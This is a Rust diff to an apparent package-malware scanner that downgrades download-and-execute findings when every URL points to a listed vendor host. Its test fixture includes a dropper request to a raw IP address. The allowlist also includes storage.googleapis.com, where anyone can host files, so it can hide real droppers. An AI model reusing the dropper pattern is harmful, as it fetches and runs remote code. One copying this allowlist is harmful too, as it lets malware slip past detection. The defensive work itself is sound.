@@ -399,6 +399,21 @@ fn code_arguments(call: &Call) -> Vec<&str> {
     args.into_iter().take(1).collect()
 }
 
+/// Source and release hosts of browser, runtime and OS vendors (not user-content hosts such
+/// as raw.githubusercontent.com or gists, where anyone can publish).
+const REPUTABLE_HOSTS: &[&str] = &[
+    "googlesource.com",
+    "chromium.org",
+    "storage.googleapis.com",
+    "nodejs.org",
+    "mozilla.org",
+    "microsoft.com",
+    "apple.com",
+    "python.org",
+    "playwright.dev",
+    "electronjs.org",
+];
+
 /// A file written with downloaded data (`fs.writeFileSync(file, body)`) and then run: its path
 /// (folded value or variable) in a command, `fork`, `require` or `eval` call.
 fn download_write_run<'a>(file: &'a FileFacts, tracer: &mut Tracer<'a>) -> Option<Finding> {
@@ -441,12 +456,24 @@ fn download_write_run<'a>(file: &'a FileFacts, tracer: &mut Tracer<'a>) -> Optio
         } else {
             String::new()
         };
+        // Tool installers fetch helper scripts from their vendors' sources (puppeteer's
+        // bisect script from chromium.googlesource.com); droppers from their own servers.
+        let hosts: Vec<String> = file.strings.iter().flat_map(|s| sinks::url_hosts(&s.value)).collect();
+        let vendor_only = !hosts.is_empty()
+            && hosts
+                .iter()
+                .all(|h| REPUTABLE_HOSTS.iter().any(|r| h == r || h.ends_with(&format!(".{r}"))));
+        let (severity, confidence) = if vendor_only {
+            (Severity::Moderate, Confidence::Low)
+        } else {
+            (Severity::Critical, Confidence::High)
+        };
         let mut finding = sinks::finding(
             &INFO,
             file,
             run.line,
-            Severity::Critical,
-            Confidence::High,
+            severity,
+            confidence,
             format!(
                 "Writes data received over the network{from} to a file (line {}) and runs it with `{runner}`: a download-and-execute dropper",
                 write.line
@@ -667,6 +694,12 @@ request.get("http://45.61.128.23:1224/client/5346/9", (err, res, body) => {
             "{:#?}",
             run(manifest)
         );
+        // A vendor's helper script from its own source host: a lead only.
+        let vendor = source.replace(
+            "http://45.61.128.23:1224/client/5346/9",
+            "https://chromium.googlesource.com/chromium/src.git/+/main/tools/bisect-builds.py?format=TEXT",
+        );
+        assert_eq!(run(&vendor)[0].severity, Severity::Moderate, "{:#?}", run(&vendor));
         // A download saved to disk and opened by the user's viewer is not run by the package.
         let saved = "const fs = require('fs'), https = require('https');\nhttps.get('https://example.com/report.pdf', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => fs.writeFileSync('report.pdf', d)); });\nrequire('child_process').exec('git status');";
         assert!(run(saved).is_empty(), "{:#?}", run(saved));
